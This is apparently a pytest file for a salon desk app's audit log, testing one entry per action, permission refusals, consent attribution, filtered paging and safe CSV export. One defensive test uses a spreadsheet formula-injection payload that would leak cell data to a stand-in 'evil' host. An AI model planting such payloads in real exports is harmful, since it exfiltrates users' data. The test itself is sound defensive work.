"""The audit log (issue 12): every audited action leaves exactly one entry, a refused one
none; the owner reads it filtered and a page at a time, and as CSV a spreadsheet cannot
run; and who declared consent is the member who acts. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date, time, timedelta
from pathlib import Path

import pytest
from sqlalchemy import select

from desk_app.db import models as m
from desk_app.domain.access import SHARED_COUNTER, Actor
from desk_app.domain.enums import AuditAction, Channel, ConsentSource, Permission, StaffRole
from desk_app.domain.errors import InvalidField, NotPermitted, WrongPin
from desk_app.domain.recurrence import Frequency, SeriesRule
from desk_app.services.audit import AuditFilter, AuditRow
from desk_app.services.audit_subjects import SubjectName
from desk_app.services.catalogue import default_week
from desk_app.services.container import Services
from desk_app.services.rows import CustomerRow
from desk_app.services.salon_setup import SalonSettingsInput
from desk_app.services.series import SeriesRequest
from desk_app.services.series_changes import OccurrenceChange
from desk_app.services.staff_tokens import IssuedToken
from desk_app.texts.audit_words import action_name, action_names, details_text, subject_text
from tests.conftest import Clock
from tests.services.queue_worker import DRAFT
from tests.services.staff_support import PINS, Team, make_team
from tests.services.support import add_customer, give_salon_address, ledger_rows

A = AuditAction


@pytest.fixture
def team(services: Services) -> Team:
    give_salon_address(services.db)  # campaigns by email carry the salon's imprint
    return make_team(services)


@pytest.fixture
def anna(services: Services) -> CustomerRow:
    return add_customer(services)


def _entries(services: Services) -> list[AuditRow]:
    with services.db.read() as s:
        return [
            AuditRow(
                e.id, e.at, e.member_id, e.member_name, StaffRole(e.member_role),
                A(e.action), e.subject, dict(e.details),
            )
            for e in s.scalars(select(m.AuditEntry).order_by(m.AuditEntry.id))
        ]  # fmt: skip


def _new_entries(services: Services, act: Callable[[], object]) -> list[AuditRow]:
    before = len(_entries(services))
    act()
    return _entries(services)[before:]


def _one(services: Services, act: Callable[[], object]) -> AuditRow:
    [entry] = _new_entries(services, act)
    return entry


# ---- exactly one entry per action -----------------------------------------------------------
def test_every_audited_action_leaves_exactly_one_entry_of_its_kind_actor_and_subject(
    services: Services, team: Team, anna: CustomerRow, tmp_path: Path
) -> None:
    """One counter day walked through every service that audits: each action once, then
    exactly one new entry naming the action, who acted and on what, and nothing else in
    the log (a second entry, or one from a helper call, fails the step that wrote it)."""
    before = _entries(services)
    written: list[AuditRow] = []

    def step(act: Callable[[], object], action: AuditAction, actor: Actor) -> AuditRow:
        entry = _one(services, act)
        assert entry.action is action
        assert (entry.member_id, entry.member_name, entry.member_role) == (
            actor.member_id,
            actor.name,
            actor.role,
        ), action
        written.append(entry)
        return entry

    reception, owner, manager = team.reception, team.owner, team.manager
    member = reception.member_id or 0
    customer = f"customer:{anna.id}"
    both = [Channel.EMAIL, Channel.SMS]

    # Sign-in, and a wrong PIN (committed although the sign-in failed).
    signed_in = step(
        lambda: services.staff_access.sign_in(member, PINS["reception"]), A.SIGNED_IN, reception
    )
    assert signed_in.subject == f"staff:{member}"

    def wrong_pin() -> None:
        with pytest.raises(WrongPin):
            services.staff_access.sign_in(member, "0000")

    failed = step(wrong_pin, A.SIGN_IN_FAILED, reception)
    assert (failed.subject, failed.details) == (f"staff:{member}", {"reason": "wrong_pin"})

    # Consent declared and revoked by staff, an objection: on the customer.
    declared = step(
        lambda: services.consent.declare(
            anna.id, both, ConsentSource.PHONE, None, True, actor=reception
        ),
        A.CONSENT_DECLARED,
        reception,
    )
    assert declared.subject == customer and declared.details["channels"] == ["email", "sms"]
    assert declared.details["staff"] == "Tanja Groß"
    revoked = step(
        lambda: services.consent.revoke(anna.id, both, ConsentSource.PHONE, None, actor=owner),
        A.CONSENT_REVOKED,
        owner,
    )
    objected = step(
        lambda: services.consent.record_objection(
            anna.id, ConsentSource.PHONE, None, actor=reception
        ),
        A.OBJECTION_RECORDED,
        reception,
    )
    assert revoked.subject == objected.subject == customer

    # A recurring series moved "this and all following": one entry, on the customer.
    services.catalogue.set_opening_hours(default_week(time(9, 0), time(18, 0)))
    cut = services.catalogue.add_treatment("Schnitt", 30, 3000)
    series = services.series.book(
        SeriesRequest(
            anna.id, member, cut.id, date(2026, 11, 27), time(10),
            SeriesRule(Frequency.WEEKLY, 1, count=3),
        ),
        {},
        actor=reception,
    )  # fmt: skip
    later = OccurrenceChange(starts_at=series[1].starts_at + timedelta(hours=1))
    changed = step(
        lambda: services.series_changes.apply(series[1].id, later, {}, actor=reception),
        A.SERIES_CHANGED,
        reception,
    )
    assert changed.subject == customer and changed.details["changed"] == 2

    # A campaign send names its author.
    sent = step(lambda: services.campaigns.send(DRAFT, actor=manager), A.CAMPAIGN_SENT, manager)
    assert sent.details["name"] == "Winteraktion" and sent.details["channel"] == "email"
    with services.db.read() as s:
        campaign = s.scalars(select(m.Campaign)).one()
        assert sent.subject == f"campaign:{campaign.id}"
        assert campaign.created_by == "Murat Kaya"

    # The export, then the erasure.
    exported = step(
        lambda: services.privacy.export(anna.id, actor=manager), A.CUSTOMER_EXPORTED, manager
    )
    erased = step(
        lambda: services.privacy.erase(anna.id, None, actor=owner), A.CUSTOMER_ERASED, owner
    )
    assert exported.subject == erased.subject == customer
    assert erased.details["erased_by"] == "Sabine Müller"
    assert services.privacy.erasure(anna.id).staff == "Sabine Müller"  # type: ignore[union-attr]

    # Settings: one entry per saving, the values as stored but no one's contact data.
    saved = step(
        lambda: services.catalogue.set_settings(
            {"salon_name": "Haarwerk", "owner_mobile": "0151 12345678"}, actor=owner
        ),
        A.SETTINGS_CHANGED,
        owner,
    )
    assert saved.subject == "settings"
    assert saved.details == {"changed": {"owner_mobile": "…", "salon_name": "Haarwerk"}}
    profile = SalonSettingsInput("Haarwerk Köln", "", "Europe/Berlin", "")
    saved = step(
        lambda: services.salon_setup.save(profile, actor=manager), A.SETTINGS_CHANGED, manager
    )
    assert saved.details["changed"]["salon_name"] == "Haarwerk Köln"  # type: ignore[index]

    # Staff: added, PIN, role, (de)activated: each on the member concerned.
    added = step(
        lambda: services.catalogue.add_staff("Lena", StaffRole.STYLIST, actor=manager),
        A.STAFF_ADDED,
        manager,
    )
    assert added.details == {"member": "Lena", "role": "stylist"}
    lena = int(added.subject.removeprefix("staff:"))
    pin = step(lambda: services.staff_access.set_pin(owner, lena, "8642"), A.PIN_SET, owner)
    assert pin.details == {"member": "Lena"}  # never the PIN
    role = step(
        lambda: services.staff_access.set_role(owner, lena, StaffRole.RECEPTION),
        A.STAFF_ROLE_CHANGED,
        owner,
    )
    assert (role.details["from"], role.details["to"]) == ("stylist", "reception")
    active = step(
        lambda: services.salon_setup.set_staff_active(lena, False, actor=owner),
        A.STAFF_ACTIVE_CHANGED,
        owner,
    )
    assert active.details == {"member": "Lena", "active": False}
    assert pin.subject == role.subject == active.subject == f"staff:{lena}"

    # The command line's token for unattended jobs: issued, used, revoked.
    tokens: list[IssuedToken] = []
    issued = step(
        lambda: tokens.append(services.staff_tokens.issue(owner, member, "Nachtlauf")),
        A.TOKEN_ISSUED,
        owner,
    )
    by_token = step(
        lambda: services.staff_tokens.sign_in(tokens[0].token), A.SIGNED_IN_BY_TOKEN, reception
    )
    revoked_token = step(
        lambda: services.staff_tokens.revoke(owner, tokens[0].row.id),
        A.TOKEN_REVOKED,
        owner,
    )
    assert issued.subject == by_token.subject == revoked_token.subject == f"staff:{member}"
    assert tokens[0].token not in repr([issued, by_token, revoked_token])

    # The gateway login: one entry naming the address, never the token.
    login = step(
        lambda: services.gateway_login.log_in("https://gw.example.org", lambda: None, actor=owner),
        A.GATEWAY_LOGIN,
        owner,
    )
    assert login.details == {"gateway_url": "https://gw.example.org"}

    # The retention period switched on (a settings change), then run by hand.
    step(
        lambda: services.catalogue.set_settings({"retention_anonymise": "on"}, actor=owner),
        A.SETTINGS_CHANGED,
        owner,
    )
    retention = step(lambda: services.retention.run(owner), A.RETENTION_RUN, owner)
    assert retention.details["count"] == 0

    # A backup by hand (a copy of the SQLite file; pg_dump on PostgreSQL), on the database.
    folder = tmp_path / "backups"
    step(
        lambda: services.catalogue.set_settings({"backup_folder": str(folder)}, actor=owner),
        A.SETTINGS_CHANGED,
        owner,
    )
    made = step(lambda: services.backups.back_up_now(owner), A.BACKUP_MADE, owner)
    assert made.subject == "database" and Path(made.details["file"]).parent == folder

    # Nothing else: the log is what it was, plus exactly these entries, in this order.
    assert _entries(services) == before + written
    # A restore rolls the log back to the backup's, so its entry cannot be one of this
    # walk's: test_a_restore_is_audited_in_the_restored_log.
    walked = {e.action for e in written}
    assert len(written) == 23 and set(AuditAction) - {A.DATABASE_RESTORED} <= walked


@pytest.mark.parametrize("backend", ["sqlite"])  # restores are SQLite's
def test_a_restore_is_audited_in_the_restored_log(
    services: Services, team: Team, tmp_path: Path
) -> None:
    owner = team.owner
    backup = services.backups.back_up_now(owner, tmp_path / "backup.sqlite3")
    at_backup = _entries(services)
    services.catalogue.set_settings({"salon_name": "Danach"}, actor=owner)
    result = services.backups.restore(owner, backup)
    *kept, restored = _entries(services)
    assert kept == at_backup[:-1]  # up to the backup's own entry, written after the copy
    assert (restored.action, restored.subject) == (A.DATABASE_RESTORED, "database")
    assert (restored.member_id, restored.member_name) == (owner.member_id, owner.name)
    assert restored.details == {
        "file": str(backup),
        "revision": result.revision,
        "safety_copy": str(result.safety),
        "salon_name": "Salon",  # as the backup has it, before the change
        "other_database": False,
    }
    with pytest.raises(NotPermitted) as refused:  # the manager may not: the owner's alone
        services.backups.restore(team.manager, backup)
    assert refused.value == NotPermitted(Permission.RESTORE_BACKUP, StaffRole.MANAGER)


# ---- the services refuse, and a refusal writes nothing --------------------------------------
def test_reception_is_refused_every_sensitive_action_with_its_name(
    services: Services, team: Team, anna: CustomerRow
) -> None:
    reception, member = team.reception, team.reception.member_id or 0
    cat, setup, privacy = services.catalogue, services.salon_setup, services.privacy
    profile = SalonSettingsInput("X", "", "Europe/Berlin", "")
    attempts: list[tuple[Permission, Callable[[], object]]] = [
        (Permission.SEND_CAMPAIGNS, lambda: services.campaigns.send(DRAFT, actor=reception)),
        (Permission.EXPORT_DATA, lambda: privacy.export(anna.id, actor=reception)),
        # The window's export reads the desktop's part alone: refused there too.
        (Permission.EXPORT_DATA, lambda: privacy.local_export(anna.id, actor=reception)),
        (Permission.ERASE_CUSTOMERS, lambda: privacy.erase(anna.id, None, actor=reception)),
        (Permission.CHANGE_SETTINGS, lambda: cat.set_setting("salon_name", "X", actor=reception)),
        (Permission.CHANGE_SETTINGS, lambda: setup.save(profile, actor=reception)),
        # The autosaved fields (automations, online tab) store through set_settings.
        (
            Permission.CHANGE_SETTINGS,
            lambda: cat.set_settings({"frequency_cap": "9"}, actor=reception),
        ),
        (Permission.MANAGE_STAFF, lambda: cat.add_staff("Y", StaffRole.STYLIST, actor=reception)),
        (Permission.MANAGE_STAFF, lambda: setup.set_staff_active(member, False, actor=reception)),
        (Permission.VIEW_AUDIT, lambda: services.audit.entries(reception)),
    ]
    for permission, attempt in attempts:

        def refused(
            attempt: Callable[[], object] = attempt, wanted: Permission = permission
        ) -> None:
            with pytest.raises(NotPermitted) as error:
                attempt()
            assert error.value == NotPermitted(wanted, StaffRole.RECEPTION)

        assert _new_entries(services, refused) == [], permission
    assert services.campaigns.campaigns() == []
    assert services.privacy.erasure(anna.id) is None
    assert services.catalogue.salon_settings().salon_name != "X"


def test_a_stylist_may_not_record_consent(
    services: Services, team: Team, anna: CustomerRow
) -> None:
    with pytest.raises(NotPermitted) as refused:
        services.consent.declare(
            anna.id, [Channel.EMAIL], ConsentSource.PHONE, None, True, actor=team.stylist
        )
    assert refused.value == NotPermitted(Permission.RECORD_CONSENT, StaffRole.STYLIST)
    assert ledger_rows(services.db, anna.id) == []


def test_the_shared_sign_in_is_refused_once_the_salon_signs_in_personally(
    services: Services, team: Team, anna: CustomerRow
) -> None:
    services.catalogue.set_setting("staff_sign_in", "on", actor=team.owner)
    with pytest.raises(NotPermitted) as refused:
        services.privacy.export(anna.id, actor=SHARED_COUNTER)
    assert refused.value == NotPermitted(Permission.EXPORT_DATA, None)
    with pytest.raises(NotPermitted):  # the consent default is the shared sign-in too
        services.consent.declare(anna.id, [Channel.EMAIL], ConsentSource.PHONE, "Tanja Groß", True)
    assert services.privacy.export(anna.id, actor=team.owner)["customer"]


# ---- who declared consent --------------------------------------------------------------------
def test_the_ledger_names_the_acting_member_and_no_one_else(
    services: Services, team: Team, anna: CustomerRow
) -> None:
    services.consent.declare(
        anna.id, [Channel.EMAIL], ConsentSource.PHONE, None, True, actor=team.reception
    )
    assert [row.staff for row in ledger_rows(services.db, anna.id)] == ["Tanja Groß"]
    with pytest.raises(InvalidField) as refused:
        services.consent.revoke(
            anna.id, [Channel.EMAIL], ConsentSource.PHONE, "Sabine Müller", actor=team.reception
        )
    assert (refused.value.problem, refused.value.value) == ("not_signed_in_member", "Sabine Müller")
    services.consent.revoke(
        anna.id, [Channel.EMAIL], ConsentSource.PHONE, "Tanja Groß", actor=team.reception
    )
    assert [row.staff for row in ledger_rows(services.db, anna.id)] == ["Tanja Groß"] * 2


def test_with_the_shared_sign_in_the_ledger_names_who_the_dialog_asked(
    services: Services, team: Team, anna: CustomerRow
) -> None:
    services.consent.declare(anna.id, [Channel.SMS], ConsentSource.IN_PERSON, "Jörg Weiß", True)
    [row] = ledger_rows(services.db, anna.id)
    assert row.staff == "Jörg Weiß"
    entry = _entries(services)[-1]
    assert (entry.member_id, entry.member_name, entry.details["staff"]) == (None, "", "Jörg Weiß")


# ---- reading the log --------------------------------------------------------------------------
def test_the_owner_reads_the_log_filtered_and_page_by_page(
    services: Services, team: Team, clock: Clock
) -> None:
    start = clock.now
    for n in range(5):
        clock.advance(minutes=1)
        services.catalogue.set_setting("frequency_cap", str(n + 1), actor=team.manager)
    member = team.manager.member_id
    where = AuditFilter(member_id=member, action=A.SETTINGS_CHANGED)
    first = services.audit.entries(team.owner, where, limit=2)
    second = services.audit.entries(team.owner, where, first.next_before_id, limit=2)
    third = services.audit.entries(team.owner, where, second.next_before_id, limit=2)
    caps = [r.details["changed"]["frequency_cap"] for p in (first, second, third) for r in p.rows]  # type: ignore[index]
    assert caps == ["5", "4", "3", "2", "1"] and third.next_before_id is None
    window = AuditFilter(since=start + timedelta(minutes=2), until=start + timedelta(minutes=4))
    rows = services.audit.entries(team.owner, window).rows
    assert [r.details["changed"]["frequency_cap"] for r in rows] == ["3", "2"]  # type: ignore[index]
    signed_in = services.audit.entries(team.owner, AuditFilter(action=A.SIGNED_IN)).rows
    assert len(signed_in) == 4  # the team signed in once each
    forged = Actor(member, "Murat Kaya", StaffRole.OWNER)  # the stored role counts
    with pytest.raises(NotPermitted):
        services.audit.entries(forged)


def test_the_csv_export_cannot_run_as_a_formula(services: Services, team: Team) -> None:
    services.catalogue.add_staff(
        '=HYPERLINK("http://evil/?"&A2)', StaffRole.STYLIST, actor=team.owner
    )
    out = io.StringIO()
    count = services.audit.export_csv(team.owner, AuditFilter(action=A.STAFF_ADDED), out)
    header, *rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert count == len(rows) == 5 and header[0] == "id"
    cells = [cell for row in rows for cell in row]
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells)
    assert any(cell.startswith("{") and "HYPERLINK" in cell for cell in cells)  # in the JSON
    subjects = {row[6] for row in rows}
    assert all(s.startswith("staff:") for s in subjects)


def test_entries_are_found_by_what_they_concern_and_named_as_it_is_called_now(
    services: Services, team: Team, anna: CustomerRow
) -> None:
    reception, owner = team.reception, team.owner
    services.consent.declare(
        anna.id, [Channel.EMAIL], ConsentSource.PHONE, None, True, actor=reception
    )
    campaign = services.campaigns.send(DRAFT, actor=team.manager)
    jorg = team.stylist.member_id

    def concerning(text: str) -> list[tuple[AuditAction | str, str]]:
        rows = services.audit.entries(owner, AuditFilter(text=text)).rows
        return [(r.action, r.subject) for r in rows]

    customer = f"customer:{anna.id}"
    # A customer by the counter's rule (name parts, phone, email), a member or campaign
    # by the words of its name (folded: "weiss" finds "Weiß"), any subject by number.
    assert concerning("anna mü") == [(A.CONSENT_DECLARED, customer)]
    assert concerning("0151 1234") == concerning("anna.mueller@") == concerning("anna mü")
    assert {a for a, s in concerning("jörg weiss")} == {A.SIGNED_IN, A.PIN_SET, A.STAFF_ADDED}
    assert {s for a, s in concerning("weiß")} == {f"staff:{jorg}"}
    assert concerning("winter") == [(A.CAMPAIGN_SENT, f"campaign:{campaign.id}")]
    numbered = {s for _a, s in concerning(str(anna.id))}
    assert customer in numbered
    assert numbered <= {customer, f"staff:{anna.id}", f"campaign:{anna.id}"}
    assert concerning("nobody here") == []

    page = services.audit.entries(owner, AuditFilter(text="anna")).rows
    assert page[0].subject_name == SubjectName("Anna Müller")
    services.privacy.erase(anna.id, None, actor=owner)
    erased = services.audit.entries(owner, AuditFilter(action=A.CONSENT_DECLARED)).rows
    assert erased[0].subject_name == SubjectName("", erased=True)  # her name is gone
    assert concerning("anna mü") == []  # and she is found by it no more
    assert concerning(str(anna.id))[0] == (A.CUSTOMER_ERASED, customer)


def test_an_action_a_newer_version_wrote_is_read_and_worded(
    services: Services, team: Team, clock: Clock
) -> None:
    with services.db.write() as s:
        s.add(
            m.AuditEntry(
                at=clock.now,
                member_id=None,
                member_name="",
                member_role="owner",
                action="shift_swapped",
                subject="shift:3",
                details={"label": "Nightly automations", "expires": None},
            )
        )
    [row] = services.audit.entries(team.owner, AuditFilter(text="shift:3")).rows
    assert (row.action, row.subject_name) == ("shift_swapped", SubjectName(""))
    assert action_name(row.action) == "Shift swapped"
    assert subject_text(row.subject, "", False) == "Shift 3"
    assert details_text(row.action, row.details, "Europe/Berlin") == (
        "Expires: —; Label: Nightly automations"
    )
    out = io.StringIO()
    assert services.audit.export_csv(team.owner, AuditFilter(text="shift:3"), out) == 1
    assert ";shift_swapped;shift:3;" in out.getvalue()


def test_every_action_this_version_writes_has_its_own_words() -> None:
    # The code's words are for entries a newer version wrote; this version names its own.
    assert set(action_names()) == set(AuditAction)
